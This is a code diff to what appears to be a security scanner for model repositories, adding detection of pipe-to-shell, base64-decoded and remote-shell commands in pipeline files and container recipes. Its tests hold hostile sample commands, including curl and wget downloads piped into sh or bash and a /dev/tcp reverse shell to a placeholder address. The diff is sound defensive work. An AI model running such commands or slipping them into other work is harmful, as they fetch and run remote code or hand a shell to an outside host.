@@ -76,6 +76,58 @@ pub(crate) fn settings(inspection: &mut Inspection, text: &str) {
     }
 }
 
+/// Descriptions of work that a tool does for whoever has the model, and the keys of the commands in them.
+const PIPELINES: &[(&str, &[&str])] = &[
+    ("mlproject", &["command"]),
+    ("dvc.yaml", &["cmd", "do"]),
+    ("project.yml", &["script"]),
+    ("project.yaml", &["script"]),
+    ("docker-compose.yml", &["command", "entrypoint"]),
+    ("docker-compose.yaml", &["command", "entrypoint"]),
+    ("compose.yaml", &["command", "entrypoint"]),
+    ("bentofile.yaml", &["setup_script"]),
+];
+
+/// Inspects such a description: its commands run when somebody builds, trains or serves the model.
+pub(crate) fn pipeline(inspection: &mut Inspection, name: &str, value: &Value) {
+    let base = name.rsplit('/').next().unwrap_or(name).to_ascii_lowercase();
+    let Some((_, keys)) = PIPELINES.iter().find(|(of, _)| *of == base) else {
+        return;
+    };
+    let mut stack = vec![(false, value)];
+    while let Some((is_command, value)) = stack.pop() {
+        match value {
+            Value::Array(items) => stack.extend(items.iter().map(|item| (is_command, item))),
+            Value::Object(map) => {
+                let values = map.iter();
+                stack.extend(values.map(|(key, value)| (keys.contains(&key.as_str()), value)));
+            }
+            Value::String(text) if is_command => script(inspection, text),
+            _ => {}
+        }
+    }
+}
+
+/// Inspects the lines of a script, of which one may go on in the next.
+pub(crate) fn script(inspection: &mut Inspection, text: &str) {
+    for line in text.replace("\\\n", " ").lines() {
+        if !line.trim_start().starts_with('#') {
+            command(inspection, line, true);
+        }
+    }
+}
+
+/// Is it a recipe of a container, whose commands run when it is built?
+pub(crate) fn is_recipe(base: &str) -> bool {
+    matches!(
+        base,
+        "dockerfile" | "containerfile" | "singularity" | "apptainer"
+    ) || base.starts_with("dockerfile.")
+        || [".dockerfile", ".def"]
+            .iter()
+            .any(|end| base.ends_with(end))
+}
+
 /// Inspects the description of an environment: every value may name a package, a place or a command.
 pub(crate) fn environment(inspection: &mut Inspection, name: &str, value: &Value) {
     let base = name.rsplit('/').next().unwrap_or(name).to_ascii_lowercase();
@@ -89,7 +141,7 @@ pub(crate) fn environment(inspection: &mut Inspection, name: &str, value: &Value
             Value::Object(map) => stack.extend(map.values()),
             Value::String(text) => {
                 for line in text.lines() {
-                    command(inspection, line);
+                    command(inspection, line, false);
                     if is_asked(line) {
                         asked(inspection, line);
                     }
@@ -107,8 +159,9 @@ fn is_asked(line: &str) -> bool {
         || has(&["pip ", "pip3 ", "install", "python", "chmod", "setup.py"])
 }
 
-/// A command that runs when the environment is made.
-fn command(inspection: &mut Inspection, line: &str) {
+/// A command that runs when the environment is made; what comes from a place that has an owner may be
+/// passed: recipes fetch the installers of tools so.
+fn command(inspection: &mut Inspection, line: &str, passes_owned: bool) {
     let plain: String = line.chars().filter(|c| !c.is_whitespace()).collect();
     let is_piped = ["|sh", "|bash", "|sudo", "|python", "|/bin/"]
         .iter()
@@ -118,6 +171,15 @@ fn command(inspection: &mut Inspection, line: &str) {
     let is_fetched =
         is_piped && (is_payload(line) || line.contains("curl ") || line.contains("wget "));
     if !(is_decoded || is_shell || is_fetched) {
+        return;
+    }
+    let mut from = places(line).peekable();
+    if !is_decoded
+        && !is_shell
+        && from.peek().is_some()
+        && passes_owned
+        && from.all(|place| place.has_owner())
+    {
         return;
     }
     // Installers of languages are fetched so as well.
@@ -134,7 +196,7 @@ fn command(inspection: &mut Inspection, line: &str) {
         },
         technique::INSECURE_INDEX,
         0,
-        "making the environment runs what comes out of a pipe or opens a shell",
+        "a command runs what comes out of a pipe, or opens a shell, when the environment is made or the work is done",
         Some(printable(&shorten(line, MAX_SHOWN))),
     );
 }
@@ -212,6 +274,11 @@ impl Place<'_> {
             .any(|open| transport.eq_ignore_ascii_case(open))
     }
 
+    /// Somebody can be asked for what comes from there.
+    fn has_owner(&self) -> bool {
+        !self.is_open() && !self.is_number()
+    }
+
     /// A machine without a name.
     fn is_number(&self) -> bool {
         self.host.starts_with('[')
@@ -264,7 +331,7 @@ mod tests {
 
     fn verdict(line: &str) -> Verdict {
         let mut inspection = Inspection::new(line.len() as u64);
-        command(&mut inspection, line);
+        command(&mut inspection, line, false);
         asked(&mut inspection, line);
         inspection.into_parts().0
     }
@@ -306,6 +373,30 @@ mod tests {
         let known = "--extra-index-url https://download.pytorch.org/whl ";
         assert_eq!(verdict(&known.repeat(MAX_PLACES)), Verdict::Clean);
         assert_eq!(verdict(&known.repeat(MAX_PLACES + 1)), Verdict::Suspicious);
+    }
+
+    #[test]
+    fn scripts_are_told_where_nobody_owns_what_they_run() {
+        let verdict = |text: &str| {
+            let mut inspection = Inspection::new(text.len() as u64);
+            script(&mut inspection, text);
+            inspection.into_parts().0
+        };
+        for text in [
+            "FROM python\nRUN curl http://203.0.113.9/x | sh\n",
+            "wget -qO- https://203.0.113.9/x \\\n  | bash\n",
+            "echo aGk= | base64 -d | sh\n",
+            "bash -i >& /dev/tcp/203.0.113.9/1 0>&1\n",
+        ] {
+            assert!(verdict(text) >= Verdict::Suspicious, "{text}");
+        }
+        for text in [
+            "RUN curl -fsSL https://deb.example.org/setup | bash -\n",
+            "# curl http://203.0.113.9/x | sh\n",
+            "curl -O http://203.0.113.9/weights.bin\n",
+        ] {
+            assert_eq!(verdict(text), Verdict::Clean, "{text}");
+        }
     }
 
     #[test]
